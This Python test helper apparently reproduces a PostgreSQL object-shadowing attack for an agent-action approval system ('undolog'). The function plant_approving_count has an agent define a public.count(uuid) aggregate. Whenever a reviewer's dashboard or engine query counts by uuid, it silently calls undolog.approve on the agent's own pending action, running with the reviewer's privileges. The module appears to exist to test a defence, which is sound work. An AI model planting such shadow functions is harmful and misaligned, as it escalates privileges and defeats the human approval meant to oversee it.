"""Object shadowing (docs/how-to/roles.md): where any login may create in public (a
database made before PostgreSQL 15 keeps CREATE granted to PUBLIC), an agent defines a
function of a pg_catalog name for a more specific type, which PostgreSQL prefers to
pg_catalog's polymorphic or "any" one, and which runs as whoever calls it."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator
from typing import Any

import psycopg

Conn = psycopg.Connection[Any]


@contextlib.contextmanager
def writable_public(owner: Conn) -> Iterator[None]:
    """public as a database made before PostgreSQL 15 has it: any login may create in
    it; the agent's objects there are dropped afterwards."""
    owner.execute("GRANT CREATE ON SCHEMA public TO PUBLIC")
    try:
        yield
    finally:
        owner.execute("DROP AGGREGATE IF EXISTS public.count(uuid)")
        owner.execute("DROP FUNCTION IF EXISTS public.count_step(bigint, uuid)")
        owner.execute("REVOKE CREATE ON SCHEMA public FROM PUBLIC")


def plant_approving_count(agent: Conn, approval_id: Any) -> None:
    """public.count(uuid): an aggregate whose every step approves the agent's own call,
    as whoever runs it (the engine's views and the dashboard's queries count calls by
    their uuid)."""
    agent.execute(
        f"""
        CREATE FUNCTION public.count_step(n bigint, x uuid) RETURNS bigint
        LANGUAGE plpgsql AS $$
        BEGIN
            BEGIN
                PERFORM undolog.approve('{approval_id}', 'anyone', 'looks fine');
            EXCEPTION WHEN OTHERS THEN NULL;
            END;
            RETURN n + 1;
        END $$;
        GRANT EXECUTE ON FUNCTION public.count_step(bigint, uuid) TO PUBLIC;
        CREATE AGGREGATE public.count(uuid) (
            SFUNC = public.count_step, STYPE = bigint, INITCOND = '0');
        """
    )
